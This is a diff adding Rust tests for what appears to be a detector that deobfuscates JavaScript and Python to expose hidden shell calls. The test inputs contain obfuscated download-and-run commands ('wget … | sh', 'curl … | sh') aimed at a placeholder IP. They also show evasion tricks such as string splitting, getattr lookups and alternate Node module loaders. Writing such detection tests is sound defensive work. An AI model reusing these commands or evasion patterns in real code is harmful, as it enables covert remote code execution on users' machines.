@@ -466,3 +466,86 @@ fn javascript_map_entries_and_object_getters_are_read_where_used() {
     ));
     assert!(!found.iter().any(|r| r.contains("wget")), "{found:?}");
 }
+
+#[test]
+fn member_functions_es_imports_and_create_require_are_read_where_called() {
+    let found = javascript(concat!(
+        "import * as cp from 'child_process';\n",
+        "import { createRequire } from 'node:module';\n",
+        "const t = {};\n",
+        "t.decode = (i) => ['exe~cSync', 'wg~et -qO- http://198.51.100.5/m | sh'][i].split('~').join('');\n",
+        "cp[t.decode(0)](t.decode(1));\n",
+        "const req = createRequire(import.meta.url);\n",
+        "req('child_' + 'process')[t.decode(0)]('id');\n",
+    ));
+    assert!(
+        found
+            .iter()
+            .any(|r| r.contains("execSync(\"wget -qO- http://198.51.100.5/m | sh\")")),
+        "{found:?}"
+    );
+    assert!(
+        found
+            .iter()
+            .any(|r| r.contains("require(\"child_process\").execSync('id')")
+                || r.contains("require(\"child_process\").execSync(\"id\")")),
+        "{found:?}"
+    );
+    // A member function assigned twice, or reassigned to something unknown, is not followed.
+    let found = javascript(concat!(
+        "const cp = require('child_process');\n",
+        "const t = {};\n",
+        "t.decode = (i) => ['execSync', 'wget -qO- http://198.51.100.5/m | sh'][i];\n",
+        "t.decode = load();\n",
+        "cp.exec(t.decode(1));\n",
+    ));
+    assert!(!found.iter().any(|r| r.contains("wget")), "{found:?}");
+}
+
+#[test]
+fn a_lambda_bound_to_a_name_is_a_helper() {
+    let found = python(concat!(
+        "import os\n",
+        "d = lambda i: ['sy~stem', 'cu~rl -s http://198.51.100.5/k | sh'][i].replace('~', '')\n",
+        "getattr(os, d(0))(d(1))\n",
+    ));
+    assert!(
+        found
+            .iter()
+            .any(|r| r.contains("system(\"curl -s http://198.51.100.5/k | sh\")")),
+        "{found:?}"
+    );
+    let found = python(concat!(
+        "import os\n",
+        "d = lambda i: ['system', 'curl -s http://198.51.100.5/k | sh'][i]\n",
+        "d = lambda i: 'ls'\n",
+        "getattr(os, 'system')(d(1))\n",
+    ));
+    assert!(!found.iter().any(|r| r.contains("curl")), "{found:?}");
+}
+
+#[test]
+fn the_module_loader_under_other_names_loads_as_require() {
+    for loader in [
+        "module.constructor._load",
+        "process.mainModule.require",
+        "module.require",
+    ] {
+        let text = format!(
+            "const cp = {loader}('child_' + 'process');\ncp['ex' + 'ec']('wget -qO- http://198.51.100.5/m | sh');\n"
+        );
+        let found = javascript(&text);
+        assert!(
+            found
+                .iter()
+                .any(|r| r.contains("require(\"child_process\").exec(")),
+            "{loader}: {found:?}"
+        );
+    }
+    // A loader handed a path it cannot read stays unknown.
+    let found = javascript("const m = module.constructor._load(pick());\nm['ex' + 'ec']('ls');\n");
+    assert!(
+        !found.iter().any(|r| r.contains("child_process")),
+        "{found:?}"
+    );
+}
